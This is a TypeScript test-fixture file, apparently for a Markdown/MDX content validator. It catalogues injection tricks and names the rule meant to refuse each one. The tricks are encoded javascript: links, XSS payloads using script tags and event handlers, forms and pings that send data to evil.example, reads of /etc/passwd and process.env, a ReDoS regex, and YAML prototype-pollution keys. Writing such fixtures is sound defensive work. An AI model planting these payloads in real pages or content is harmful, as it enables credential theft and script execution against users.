/** Short tricks by hand, each in a document of its own, by the rule that refuses it and the format that it is written in. */

/** One trick: what it tries, and the prose that it is. */
export type Trick = { readonly rule: string; readonly name: string; readonly format: 'md' | 'mdx'; readonly prose: string };

type Prose = Readonly<Record<string, string>>;

const inFormat = (rule: string, format: Trick['format'], prose: Prose): Trick[] =>
  Object.entries(prose).map(([name, each]) => ({ rule, name, format, prose: each }));

/** Addresses that run code or leave the web, in every way that Markdown has of writing one. */
const links = inFormat('unsafe-link', 'md', {
  'mixed case': '[x](JaVaScRiPt:alert(1))',
  'a tab as an entity': '[x](java&Tab;script:alert(1))',
  'a line break as an entity': '[x](java&NewLine;script:alert(1))',
  'a letter as an entity': '[x](&#106;avascript:alert(1))',
  'a letter as a hexadecimal entity': '[x](&#x6A;avascript:alert(1))',
  'the colon as an entity': '[x](javascript&colon;alert(1))',
  'an element that runs': '<a href="javascript&#58;alert(1)">x</a>',
  'a control character before it': '[x](&#1;javascript:alert(1))',
  'a space before it': '[x](<  javascript:alert(1)>)',
  'an autolink': '<javascript:alert(1)>',
  'a definition': '[x][a]\n\n[a]: javascript:alert(1)',
  'a definition in another case': '[x][A]\n\n[a]: VBSCRIPT:msgbox(1)',
  'a collapsed reference': '[a][]\n\n[a]: <data:text/html,x>',
  'a page in the address': '[x](data:text/html;base64,PHNjcmlwdD4=)',
  'a drawing in the address': '[x](data:image/svg+xml,%3Csvg%3E)',
  'a file of this machine': '[x](file:///etc/passwd)',
  'the source of a page': '[x](view-source:https://example.org)',
  'a blob': '[x](blob:https://example.org/1)',
  'another program': '[x](ms-word:ofe|u|https://example.org/a.docx)',
  'a link around a picture': '[![x](a.png)](javascript:alert(1))',
  'a link in a table': '| a |\n|---|\n| [x](javascript:alert(1)) |',
  'a link in a footnote': 'Text.[^a]\n\n[^a]: [x](javascript:alert(1))',
  'a link in a heading': '## [x](javascript:alert(1))',
  'a link in a quotation in a list': '- > [x](javascript:alert(1))',
});

/** Raw HTML that runs, loads or covers something. */
const html = inFormat('unsafe-html', 'md', {
  'a script in capitals': '<SCRIPT>alert(1)</SCRIPT>',
  'a script in a script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'a comment that ends early': '<!--><script>alert(1)</script>-->',
  'a frame with a page in it': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object': '<object data="https://evil.example"></object>',
  'an embedded page': '<embed src="https://evil.example">',
  'a form': '<form action="https://evil.example"><input name="password"></form>',
  'another base': '<base href="https://evil.example/">',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a style sheet': '<link rel="stylesheet" href="https://evil.example/a.css">',
  'a style element': '<style>body { display: none }</style>',
  'a style attribute': '<p style="position: fixed; inset: 0">x</p>',
  'a handler over lines': '<b\n  onclick="alert(1)">x</b>',
  'a handler without quotes': '<b onmouseover=alert(1)>x</b>',
  'a handler that comes twice': '<b title="a" onclick="alert(1)" onclick="x">x</b>',
  'details that open themselves': '<details open ontoggle="alert(1)"><summary>x</summary></details>',
  'a drawing that loads': '<svg onload="alert(1)"></svg>',
  'a drawing with another page': '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'mathematics with a link': '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  'a picture that fails': '<img src=x onerror=alert(1) alt="x">',
  'a set of pictures': '<img srcset="https://evil.example/a.png 1x" src="a.png" alt="x">',
  'a link that calls home': '<a href="https://example.org" ping="https://evil.example">x</a>',
  'a button that posts': '<button formaction="javascript:alert(1)">x</button>',
  'a video': '<video src="x" onerror="alert(1)" autoplay></video>',
  'a text area that swallows': '<textarea>',
  'a select that swallows': '<select><option>x',
  'plain text to the end': '<plaintext>',
  'a noscript that parses twice': '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  'a template': '<template><script>alert(1)</script></template>',
  'an element of their own': '<x-evil onclick="alert(1)">x</x-evil>',
  'a page in the page': '<html><body onload="alert(1)">x</body></html>',
  'a dialogue over everything': '<dialog open>Sign in again</dialog>',
  'a popover': '<p popover id="x">x</p>',
  'an anchor of ours': '<p id="content">x</p>',
});

/** The same through JSX, and what only JSX has. */
const components = inFormat('unsafe-component', 'mdx', {
  'a script': '<script>alert(1)</script>',
  'a frame': '<iframe src="https://evil.example" />',
  'a handler': '<b onClick="alert(1)">x</b>',
  'a handler in lower case': '<b onclick="alert(1)">x</b>',
  'HTML to be set': '<Fragment set:html="<script>alert(1)</script>" />',
  'text to be set': '<b set:text="x" />',
  'a directive for clients': '<Action client:load id="a" owner="marten-saar">x</Action>',
  'HTML as React has it': '<b dangerouslySetInnerHTML="x" />',
  'a spread': '<b {...props}>x</b>',
  'an expression as a value': '<b title={process.env.HOME}>x</b>',
  'a member of something': '<Astro.self />',
  'a name with a space of names': '<svg:script>x</svg:script>',
  'a component that no one knows': '<Evil />',
  'a style': '<b style="position: fixed">x</b>',
  'an object': '<object data="x" />',
  'a slot': '<slot name="x" />',
  'a base': '<base href="https://evil.example/" />',
});

/** What the parser of MDX refuses before anything looks at it. */
const syntax = inFormat('markdown-syntax', 'mdx', {
  'an element in an attribute': '<Action id=<b /> owner="marten-saar">x</Action>',
  'a tag that never ends': '<b title="x',
  'a brace that never ends': 'It is {process.env',
});

/** Code in prose. */
const code = inFormat('no-code', 'mdx', {
  'an import': 'import a from "./evil.js"',
  'an import of data': 'import a from "../../package.json"',
  'a raw import': 'import a from "/etc/passwd?raw"',
  'an export': 'export const a = process.env',
  'an export of everything': 'export * from "./evil.js"',
  'a default export': 'export default () => null',
  'a layout': 'export const layout = "./evil.js"',
  'an expression': 'It is {process.exit(1)}.',
  'a template with code': 'It is {`${process.env.HOME}`}.',
  'an expression behind a comment': 'It is {/* fine */ process.env.HOME}.',
  'a call that imports': 'It is {await import("node:fs")}.',
  'a regular expression': 'It is {/(a+)+$/.test("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!")}.',
  'a loop': 'It is {(() => { for (;;); })()}.',
  'a function in a list': '- {Object.constructor("return process")()}',
});

/** Front matter that is more than values. */
export const frontMatterTricks: Readonly<Record<string, { readonly rule: string; readonly line: string }>> = {
  'a function': { rule: 'front-matter-syntax', line: 'summary: !!js/function "function () {}"' },
  'an alias of an alias': { rule: 'yaml-alias', line: 'a: &a [x]\nb: &b [*a, *a]\nx: *b' },
  'a merge': { rule: 'yaml-alias', line: 'a: &a { b: c }\nx:\n  <<: *a' },
  'a key that is a list': { rule: 'front-matter-syntax', line: '? [a, b]\n: c' },
  'a key of every object': { rule: 'unknown-key', line: '__proto__: { status: draft }' },
  'a constructor': { rule: 'unknown-key', line: 'constructor: { prototype: x }' },
  'a layout of Astro': { rule: 'unknown-key', line: 'layout: ../../evil.astro' },
  'a key that comes twice': { rule: 'front-matter-syntax', line: 'status: draft' },
};

/** Every trick in prose. */
export const tricks: readonly Trick[] = [...links, ...html, ...components, ...syntax, ...code];
